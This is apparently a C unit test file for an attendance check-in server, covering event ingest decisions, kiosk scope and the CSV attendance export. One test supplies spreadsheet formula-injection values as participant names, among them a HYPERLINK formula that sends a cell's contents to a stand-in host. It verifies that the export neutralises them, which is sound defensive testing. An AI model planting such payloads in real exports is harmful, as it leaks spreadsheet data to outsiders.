/* SPDX-License-Identifier: MIT */
/* Tests of event ingest decisions and the attendance export
 * (sync/server/srv_store_sqlite.c, export.c): present/absent, voids,
 * duplicates, rejections with reasons, facility-local times across DST,
 * RFC 4180 quoting and the facility/date filters; check-ins that stay in the
 * export after a re-import removed their membership, participant or session;
 * which cards a kiosk may link; formula cells neutralised and unshowable
 * stored times exported (issue 12). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "auth.h"
#include "export.h"
#include "import.h"
#include "srv_store.h"
#include "srv_testutil.h"

struct fx {
	char *tmp;
	struct srv_store *st;
	struct srv_kiosk k1, k2; /* k1 at F1, k2 at F2 */
};

static void add_kiosk(struct fx *fx, const char *fac, uint8_t seed, struct srv_kiosk *k)
{
	uint8_t hash[SRV_TOKEN_HASH_LEN];
	char id[SRV_ID_MAX + 1];
	memset(hash, seed, sizeof(hash));
	assert_int_equal(srv_store_add_kiosk(fx->st, fac, "Kiosk", hash, 1, id), BLIPPA_OK);
	assert_int_equal(srv_store_auth_kiosk(fx->st, hash, k), BLIPPA_OK);
	assert_string_equal(k->id, id);
	assert_string_equal(k->facility_id, fac);
}

static int setup(void **state)
{
	struct fx *fx = calloc(1, sizeof(*fx));
	char err[512], db[1024];
	struct import_set *set = NULL;
	struct srv_import_stats st;
	fx->st = tu_store_open(&fx->tmp, db, sizeof(db));
	char *dir = tu_roster_dir(fx->tmp, "roster", NULL);
	assert_int_equal(import_load_dir(dir, &set, err, sizeof(err)), BLIPPA_OK);
	assert_int_equal(srv_store_import(fx->st, import_set_roster(set), &st, err, sizeof(err)),
			 BLIPPA_OK);
	import_set_free(set);
	free(dir);
	add_kiosk(fx, "F1", 1, &fx->k1);
	add_kiosk(fx, "F2", 2, &fx->k2);
	*state = fx;
	return 0;
}

static int teardown(void **state)
{
	struct fx *fx = *state;
	tu_store_close(fx->st, fx->tmp);
	free(fx);
	return 0;
}

static struct protocol_event checkin(const char *id, int64_t at, enum checkin_method m,
				     const char *pid, const char *sid)
{
	struct protocol_event e = {.type = EVENT_CHECKIN, .at_ms = at, .method = m};
	snprintf(e.id, sizeof(e.id), "%s", id);
	snprintf(e.participant_id, sizeof(e.participant_id), "%s", pid);
	snprintf(e.session_id, sizeof(e.session_id), "%s", sid);
	return e;
}

static struct protocol_event voids(const char *id, int64_t at, const char *target)
{
	struct protocol_event e = {.type = EVENT_VOID, .at_ms = at};
	snprintf(e.id, sizeof(e.id), "%s", id);
	snprintf(e.voids_id, sizeof(e.voids_id), "%s", target);
	return e;
}

#define U(n) "0192f5c4-0000-7000-8000-0000000000" n
#define T0954 1795424040000 /* 2026-11-23 09:54 Europe/Stockholm (CET) */
#define T1005 1795424700000
#define T1020 1795425600000
#define T0958_SUMMER 1783324680000 /* 2026-07-06 09:58 CEST */
#define T0901_F2 1795593660000	   /* 2026-11-25 09:01 */

static void ingest(struct fx *fx, const struct srv_kiosk *k, const struct protocol_event *ev,
		   size_t n, struct protocol_result *res)
{
	struct srv_ingest_stats st;
	assert_int_equal(srv_store_ingest_events(fx->st, k, ev, n, 42, res, &st), BLIPPA_OK);
	assert_int_equal(st.accepted + st.duplicate + st.rejected, n);
}

static void expect(const struct protocol_result *r, const char *id, enum protocol_status s,
		   const char *reason)
{
	assert_string_equal(r->id, id);
	if (r->status != s || strcmp(r->reason, reason) != 0)
		fail_msg("%s: status %d reason '%s', expected %d '%s'", id, r->status, r->reason, s,
			 reason);
}

static void test_ingest_decisions(void **state)
{
	struct fx *fx = *state;
	struct protocol_event ev[12];
	struct protocol_result res[12];
	size_t n = 0;
	ev[n++] = checkin(U("01"), T0954, CHECKIN_CARD, "P1", "S1");
	ev[n++] = checkin(U("02"), T0954, CHECKIN_CARD, "P1", "S4");  /* F2's session */
	ev[n++] = checkin(U("03"), T0954, CHECKIN_CARD, "P9", "S1");  /* nobody */
	ev[n++] = checkin(U("04"), T0954, CHECKIN_CARD, "P4", "S1");  /* F1, but G2 */
	ev[n++] = checkin(U("05"), T0954, CHECKIN_CARD, "P1", "S99"); /* no such session */
	ev[n++] = checkin(U("06"), T0954, CHECKIN_CARD, "P5", "");    /* F2's participant */
	ev[n++] = voids(U("07"), T0954, U("99"));		      /* never seen */
	ev[n++] = checkin(U("01"), T0954, CHECKIN_CARD, "P1", "S1");  /* same id again */
	ev[n++] = checkin(U("08"), T0954, CHECKIN_NAME, "P1", "");    /* open training */
	ev[n] = (struct protocol_event){.id = U("09"),
					.type = EVENT_CARD_LINK,
					.at_ms = T0954,
					.participant_id = "P2",
					.card_uid = "xyz"};
	n++;
	ev[n++] = voids(U("10"), T0954, U("01")); /* same batch */
	ingest(fx, &fx->k1, ev, n, res);
	expect(&res[0], U("01"), PROTOCOL_ACCEPTED, "");
	expect(&res[1], U("02"), PROTOCOL_REJECTED, "session not in facility");
	expect(&res[2], U("03"), PROTOCOL_REJECTED, "unknown participant");
	expect(&res[3], U("04"), PROTOCOL_REJECTED, "participant not in group");
	expect(&res[4], U("05"), PROTOCOL_REJECTED, "unknown session");
	expect(&res[5], U("06"), PROTOCOL_REJECTED, "unknown participant");
	expect(&res[6], U("07"), PROTOCOL_REJECTED, "unknown event");
	expect(&res[7], U("01"), PROTOCOL_DUPLICATE, "");
	expect(&res[8], U("08"), PROTOCOL_ACCEPTED, "");
	expect(&res[9], U("09"), PROTOCOL_REJECTED, "bad card uid");
	expect(&res[10], U("10"), PROTOCOL_ACCEPTED, "");
	/* the whole batch again: everything stored is a duplicate, the rest
	 * is rejected again for the same reason */
	ingest(fx, &fx->k1, ev, n, res);
	expect(&res[0], U("01"), PROTOCOL_DUPLICATE, "");
	expect(&res[1], U("02"), PROTOCOL_REJECTED, "session not in facility");
	expect(&res[8], U("08"), PROTOCOL_DUPLICATE, "");
	expect(&res[10], U("10"), PROTOCOL_DUPLICATE, "");
	/* kiosk of F2 cannot void F1's check-in */
	struct protocol_event v = voids(U("11"), T0954, U("08"));
	ingest(fx, &fx->k2, &v, 1, res);
	expect(&res[0], U("11"), PROTOCOL_REJECTED, "unknown event");
	/* a revoked kiosk no longer authenticates */
	uint8_t hash[SRV_TOKEN_HASH_LEN];
	struct srv_kiosk k;
	memset(hash, 2, sizeof(hash));
	assert_int_equal(srv_store_revoke_kiosk(fx->st, fx->k2.id, 5), BLIPPA_OK);
	assert_int_equal(srv_store_auth_kiosk(fx->st, hash, &k), BLIPPA_ERR_NOT_FOUND);
	assert_int_equal(srv_store_revoke_kiosk(fx->st, "k-nope", 5), BLIPPA_ERR_NOT_FOUND);
}

static const char *const expected_all =
    "facility_id,group_id,session_id,session_start,participant_id,given_name,family_name,"
    "status,checked_in_at,method,kiosk\n"
    "F1,G1,S5,2026-07-06 10:00,P1,Åsa,Östberg,present,2026-07-06 09:58,leader,{K}\n"
    "F1,G1,S5,2026-07-06 10:00,P2,Örjan,Ärlig,absent,,,\n"
    "F1,G1,S5,2026-07-06 10:00,P3,Anna-Lena,\"Svensson, d.y.\",absent,,,\n"
    "F1,G1,S1,2026-11-23 10:00,P1,Åsa,Östberg,present,2026-11-23 09:54,card,{K}\n"
    "F1,G1,S1,2026-11-23 10:00,P2,Örjan,Ärlig,absent,,,\n"
    "F1,G1,S1,2026-11-23 10:00,P3,Anna-Lena,\"Svensson, d.y.\",present,2026-11-23 10:20,"
    "name,{K}\n"
    "F1,G1,S2,2026-11-30 10:00,P1,Åsa,Östberg,absent,,,\n"
    "F1,G1,S2,2026-11-30 10:00,P2,Örjan,Ärlig,absent,,,\n"
    "F1,G1,S2,2026-11-30 10:00,P3,Anna-Lena,\"Svensson, d.y.\",absent,,,\n"
    "F1,G2,S3,2026-11-24 14:00,P1,Åsa,Östberg,absent,,,\n"
    "F1,G2,S3,2026-11-24 14:00,P4,Märta,\"O\"\"Brien\",absent,,,\n"
    "F2,G3,S4,2026-11-25 09:00,P5,Björn,Åkesson,absent,,,\n"
    "F2,G3,S4,2026-11-25 09:00,P6,Karl,Ek,present,2026-11-25 09:01,card,{K2}\n";

static void test_export_present_absent(void **state)
{
	struct fx *fx = *state;
	struct protocol_event ev[8];
	struct protocol_result res[8];
	size_t n = 0;
	ev[n++] = checkin(U("21"), T0954, CHECKIN_CARD, "P1", "S1"); /* present 09:54 */
	ev[n++] = checkin(U("22"), T1005, CHECKIN_NAME, "P2", "S1");
	ev[n++] = voids(U("23"), T1005 + 3000, U("22"));	     /* P2 undone */
	ev[n++] = checkin(U("24"), T1020, CHECKIN_CARD, "P1", "S1"); /* later: ignored */
	ev[n++] = checkin(U("25"), T1020, CHECKIN_NAME, "P3", "S1");
	ev[n++] = checkin(U("26"), T0958_SUMMER, CHECKIN_LEADER, "P1", "S5"); /* CEST */
	ingest(fx, &fx->k1, ev, n, res);
	for (size_t i = 0; i < n; i++)
		assert_int_equal(res[i].status, PROTOCOL_ACCEPTED);
	struct protocol_event e2 = checkin(U("27"), T0901_F2, CHECKIN_CARD, "P6", "S4");
	ingest(fx, &fx->k2, &e2, 1, res);
	assert_int_equal(res[0].status, PROTOCOL_ACCEPTED);

	char *exp1 = tu_subst(expected_all, fx->k1.id);
	char *p = strstr(exp1, "{K2}");
	assert_non_null(p);
	char *want = calloc(1, strlen(exp1) + 64);
	snprintf(want, strlen(exp1) + 64, "%.*s%s%s", (int)(p - exp1), exp1, fx->k2.id, p + 4);
	char *got = tu_export(fx->st, NULL);
	assert_string_equal(got, want);
	free(got);

	/* facility filter: exactly the F2 lines */
	struct srv_export_filter f = {.facility_id = "F2"};
	got = tu_export(fx->st, &f);
	assert_non_null(strstr(got, "F2,G3,S4"));
	assert_null(strstr(got, "\nF1,"));
	free(got);
	/* date filter, inclusive at both ends, on the local session date */
	f = (struct srv_export_filter){
	    .facility_id = "F1", .from_date = "2026-11-23", .to_date = "2026-11-24"};
	got = tu_export(fx->st, &f);
	assert_null(strstr(got, ",S5,"));
	assert_null(strstr(got, ",S2,"));
	assert_non_null(strstr(got, ",S1,"));
	assert_non_null(strstr(got, ",S3,"));
	size_t lines = 0;
	for (const char *c = got; *c; c++)
		lines += *c == '\n';
	assert_int_equal(lines, 1 + 3 + 2);
	free(got);
	free(want);
	free(exp1);
}

static void test_export_empty_and_void_of_void(void **state)
{
	struct fx *fx = *state;
	struct srv_export_filter f = {.from_date = "2030-01-01"};
	char *got = tu_export(fx->st, &f);
	assert_string_equal(got, EXPORT_HEADER "\n");
	free(got);
	/* voiding a void is not a thing: rejected, the check-in stays void */
	struct protocol_event ev[3] = {checkin(U("31"), T0954, CHECKIN_CARD, "P1", "S1"),
				       voids(U("32"), T0954, U("31")),
				       voids(U("33"), T0954, U("32"))};
	struct protocol_result res[3];
	ingest(fx, &fx->k1, ev, 3, res);
	expect(&res[2], U("33"), PROTOCOL_REJECTED, "unknown event");
	f = (struct srv_export_filter){
	    .facility_id = "F1", .from_date = "2026-11-23", .to_date = "2026-11-23"};
	got = tu_export(fx->st, &f);
	assert_non_null(strstr(got, "P1,Åsa,Östberg,absent,,,\n"));
	free(got);
}

/* Replaces the store's roster with the test roster, with the given files
 * overwritten (NULL: keep the fixture's). */
static void reimport(struct fx *fx, const char *name, const char *sessions, const char *parts,
		     const char *members, struct srv_import_stats *st)
{
	char err[512], path[1200];
	struct import_set *set = NULL;
	char *dir = tu_roster_dir(fx->tmp, name, NULL);
	const char *files[][2] = {
	    {"sessions.csv", sessions}, {"participants.csv", parts}, {"members.csv", members}};
	for (size_t i = 0; i < 3; i++) {
		if (!files[i][1])
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, files[i][0]);
		tu_write_file(path, files[i][1]);
	}
	assert_int_equal(import_load_dir(dir, &set, err, sizeof(err)), BLIPPA_OK);
	assert_int_equal(srv_store_import(fx->st, import_set_roster(set), st, err, sizeof(err)),
			 BLIPPA_OK);
	import_set_free(set);
	free(dir);
}

static const char *const sessions_no_s5 = "session_id,group_id,start,end\n"
					  "S1,G1,2026-11-23 10:00,2026-11-23 11:00\n"
					  "S2,G1,2026-11-30 10:00,2026-11-30 11:00\n"
					  "S3,G2,2026-11-24 14:00,2026-11-24 15:00\n"
					  "S4,G3,2026-11-25 09:00,2026-11-25 10:00\n";
static const char *const parts_no_p2_p4 = "participant_id,given_name,family_name,card_uid\n"
					  "P1,Åsa,Östberg,04A1B2C3\n"
					  "P3,Anna-Lena,\"Svensson, d.y.\",04a1b2c4\n"
					  "P5,Björn,Åkesson,04A1B2C5\n"
					  "P6,Karl,Ek,04A1B2C6\n";
static const char *const members_left = "group_id,participant_id\n"
					"G1,P1\n"
					"G2,P1\n"
					"G3,P5\n"
					"G3,P6\n";

static const char *const expected_after_leave =
    "facility_id,group_id,session_id,session_start,participant_id,given_name,family_name,"
    "status,checked_in_at,method,kiosk\n"
    "F1,G1,S5,2026-07-06 10:00,P1,Åsa,Östberg,present,2026-07-06 09:58,leader,{K}\n"
    "F1,G1,S1,2026-11-23 10:00,P1,Åsa,Östberg,absent,,,\n"
    "F1,G1,S1,2026-11-23 10:00,P3,Anna-Lena,\"Svensson, d.y.\",present,2026-11-23 10:20,"
    "name,{K}\n"
    "F1,G1,S2,2026-11-30 10:00,P1,Åsa,Östberg,absent,,,\n"
    "F1,G2,S3,2026-11-24 14:00,P1,Åsa,Östberg,absent,,,\n"
    "F1,G2,S3,2026-11-24 14:00,P4,,,present,2026-11-23 09:54,card,{K}\n"
    "F2,G3,S4,2026-11-25 09:00,P5,Björn,Åkesson,absent,,,\n"
    "F2,G3,S4,2026-11-25 09:00,P6,Karl,Ek,absent,,,\n";

/* A re-import never hides recorded attendance: P3 leaves the group (stays a
 * participant), P4 and P2 leave the roster, session S5 leaves sessions.csv;
 * their live check-ins stay in the export, a voided one does not. */
static void test_export_keeps_checkins_after_reimport(void **state)
{
	struct fx *fx = *state;
	struct protocol_event ev[5];
	struct protocol_result res[5];
	struct srv_import_stats st;
	ev[0] = checkin(U("41"), T1020, CHECKIN_NAME, "P3", "S1");
	ev[1] = checkin(U("42"), T0958_SUMMER, CHECKIN_LEADER, "P1", "S5");
	ev[2] = checkin(U("43"), T0954, CHECKIN_CARD, "P4", "S3");
	ev[3] = checkin(U("44"), T0954, CHECKIN_CARD, "P2", "S2");
	ev[4] = voids(U("45"), T0954, U("44"));
	ingest(fx, &fx->k1, ev, 5, res);
	for (size_t i = 0; i < 5; i++)
		assert_int_equal(res[i].status, PROTOCOL_ACCEPTED);

	reimport(fx, "left", sessions_no_s5, parts_no_p2_p4, members_left, &st);
	assert_true(st.removed > 0);
	char *want = tu_subst(expected_after_leave, fx->k1.id);
	char *got = tu_export(fx->st, NULL);
	assert_string_equal(got, want);
	free(got);
	/* the same files again change nothing */
	reimport(fx, "left2", sessions_no_s5, parts_no_p2_p4, members_left, &st);
	assert_int_equal(st.changed + st.removed, 0);
	got = tu_export(fx->st, NULL);
	assert_string_equal(got, want);
	free(got);
	free(want);
	/* the date filter still applies to a removed session */
	struct srv_export_filter f = {.from_date = "2026-07-01", .to_date = "2026-07-31"};
	got = tu_export(fx->st, &f);
	assert_non_null(strstr(got, "\nF1,G1,S5,2026-07-06 10:00,P1,"));
	assert_null(strstr(got, ",S1,"));
	free(got);
	/* a removed session is gone for kiosks: not in the roster, no check-ins */
	struct roster *r = NULL;
	assert_int_equal(srv_store_load_roster(fx->st, "F1", &r), BLIPPA_OK);
	assert_int_equal(r->n_sessions, 3);
	for (size_t i = 0; i < r->n_sessions; i++)
		assert_string_not_equal(r->sessions[i].id, "S5");
	roster_free(r);
	ev[0] = checkin(U("46"), T0958_SUMMER, CHECKIN_CARD, "P1", "S5");
	ingest(fx, &fx->k1, ev, 1, res);
	expect(&res[0], U("46"), PROTOCOL_REJECTED, "unknown session");
	/* back in the files: the full rows come back */
	reimport(fx, "back", NULL, NULL, NULL, &st);
	assert_true(st.changed > 0);
	got = tu_export(fx->st, NULL);
	assert_non_null(strstr(got, "F1,G1,S5,2026-07-06 10:00,P2,Örjan,Ärlig,absent,,,\n"));
	assert_non_null(strstr(got, "F1,G2,S3,2026-11-24 14:00,P4,Märta,\"O\"\"Brien\",present,"));
	assert_non_null(strstr(got, "F1,G1,S2,2026-11-30 10:00,P2,Örjan,Ärlig,absent,,,\n"));
	free(got);
	assert_int_equal(srv_store_load_roster(fx->st, "F1", &r), BLIPPA_OK);
	assert_int_equal(r->n_sessions, 4);
	roster_free(r);
}

/* Issue 12 defect 2: cells that a spreadsheet would run as a formula
 * (starting with = + - @, tab or CR) are written with a leading ' (OWASP);
 * other cells, dates and times included, are unchanged. */
static void test_export_neutralises_formulas(void **state)
{
	struct fx *fx = *state;
	struct srv_import_stats st;
	reimport(fx, "formulas", NULL,
		 "participant_id,given_name,family_name,card_uid\n"
		 "P1,Åsa,Östberg,04A1B2C3\n"
		 "P2,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",+46701234567,\n"
		 "P3,@SUM(A1),-2+3,\n"
		 "P4,Märta,\"O\"\"Brien\",\n"
		 "P5,Björn,Åkesson,04A1B2C5\n"
		 "P6,Karl,Ek,04A1B2C6\n"
		 "-P7,=1+1,Ek,\n",
		 "group_id,participant_id\nG1,P1\nG1,P2\nG1,P3\nG1,-P7\nG2,P4\nG3,P5\nG3,P6\n",
		 &st);
	struct srv_export_filter f = {
	    .facility_id = "F1", .from_date = "2026-11-23", .to_date = "2026-11-23"};
	char *got = tu_export(fx->st, &f);
	assert_string_equal(got, EXPORT_HEADER
			    "\n"
			    "F1,G1,S1,2026-11-23 10:00,'-P7,'=1+1,Ek,absent,,,\n"
			    "F1,G1,S1,2026-11-23 10:00,P1,Åsa,Östberg,absent,,,\n"
			    "F1,G1,S1,2026-11-23 10:00,P2,\"'=HYPERLINK(\"\"http://x/"
			    "?\"\"&A1,\"\"click\"\")\",'+46701234567,absent,,,\n"
			    "F1,G1,S1,2026-11-23 10:00,P3,'@SUM(A1),'-2+3,absent,,,\n");
	free(got);
}

/* Issue 12 defect 1: a check-in stored with a time no calendar shows (year
 * 10000: what the server accepted before it refused such times) does not
 * break the export; its row has an empty checked_in_at. */
static void test_export_survives_unrepresentable_time(void **state)
{
	struct fx *fx = *state;
	struct protocol_event ev[2] = {
	    checkin(U("41"), 253402300800000, CHECKIN_CARD, "P1", "S1"),
	    checkin(U("42"), 9007199254740991, CHECKIN_NAME, "P2", "S1")};
	struct protocol_result res[2];
	ingest(fx, &fx->k1, ev, 2, res);
	assert_int_equal(res[0].status, PROTOCOL_ACCEPTED);
	assert_int_equal(res[1].status, PROTOCOL_ACCEPTED);
	struct srv_export_filter f = {
	    .facility_id = "F1", .from_date = "2026-11-23", .to_date = "2026-11-23"};
	char *got = tu_export(fx->st, &f);
	char *want =
	    tu_subst(EXPORT_HEADER "\n"
				   "F1,G1,S1,2026-11-23 10:00,P1,Åsa,Östberg,present,,card,{K}\n"
				   "F1,G1,S1,2026-11-23 10:00,P2,Örjan,Ärlig,present,,name,{K}\n"
				   "F1,G1,S1,2026-11-23 10:00,P3,Anna-Lena,\"Svensson, "
				   "d.y.\",absent,,,\n",
		     fx->k1.id);
	/* tu_subst replaces every {K} */
	assert_string_equal(got, want);
	free(got);
	free(want);
}

static struct protocol_event link_ev(const char *id, const char *pid, const char *uid)
{
	struct protocol_event e = {.type = EVENT_CARD_LINK, .at_ms = T0954};
	snprintf(e.id, sizeof(e.id), "%s", id);
	snprintf(e.participant_id, sizeof(e.participant_id), "%s", pid);
	snprintf(e.card_uid, sizeof(e.card_uid), "%s", uid);
	return e;
}

/* The owner of uid in the facility's roster, or NULL. */
static const char *card_owner(struct roster *r, const char *uid)
{
	for (size_t i = 0; i < r->n_cards; i++)
		if (strcmp(r->cards[i].uid_hex, uid) == 0)
			return r->cards[i].owner_id;
	return NULL;
}

/* A kiosk can take a card only from nobody or from its own facility's
 * participants: never from a leader nor from another facility. */
static void test_card_link_scope(void **state)
{
	struct fx *fx = *state;
	struct protocol_event ev[4];
	struct protocol_result res[4];
	ev[0] = link_ev(U("51"), "P2", "04A1B2C5"); /* P5's, F2 */
	ev[1] = link_ev(U("52"), "P2", "04FFEE01"); /* leader L1's, F1 */
	ev[2] = link_ev(U("53"), "P2", "04A1B2C4"); /* P3's, F1: allowed */
	ev[3] = link_ev(U("54"), "P1", "04a1b2c3"); /* P1's own card */
	ingest(fx, &fx->k1, ev, 4, res);
	expect(&res[0], U("51"), PROTOCOL_REJECTED, "card in use");
	expect(&res[1], U("52"), PROTOCOL_REJECTED, "card in use");
	expect(&res[2], U("53"), PROTOCOL_ACCEPTED, "");
	expect(&res[3], U("54"), PROTOCOL_ACCEPTED, "");
	ev[0] = link_ev(U("55"), "P6", "04ffee01"); /* F1's leader card from F2 */
	ev[1] = link_ev(U("56"), "P6", "04A1B2C3"); /* F1's participant card */
	ev[2] = link_ev(U("57"), "P6", "04A1B2C5"); /* P5's, same facility */
	ingest(fx, &fx->k2, ev, 3, res);
	expect(&res[0], U("55"), PROTOCOL_REJECTED, "card in use");
	expect(&res[1], U("56"), PROTOCOL_REJECTED, "card in use");
	expect(&res[2], U("57"), PROTOCOL_ACCEPTED, "");
	struct roster *r = NULL;
	assert_int_equal(srv_store_load_roster(fx->st, "F1", &r), BLIPPA_OK);
	assert_string_equal(card_owner(r, "04FFEE01"), "L1");
	assert_string_equal(card_owner(r, "04A1B2C3"), "P1");
	assert_string_equal(card_owner(r, "04A1B2C4"), "P2");
	roster_free(r);
	assert_int_equal(srv_store_load_roster(fx->st, "F2", &r), BLIPPA_OK);
	assert_string_equal(card_owner(r, "04A1B2C5"), "P6");
	assert_null(card_owner(r, "04FFEE01"));
	roster_free(r);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test_setup_teardown(test_ingest_decisions, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_export_present_absent, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_export_empty_and_void_of_void, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_export_keeps_checkins_after_reimport, setup,
					    teardown),
	    cmocka_unit_test_setup_teardown(test_card_link_scope, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_export_neutralises_formulas, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_export_survives_unrepresentable_time, setup,
					    teardown),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
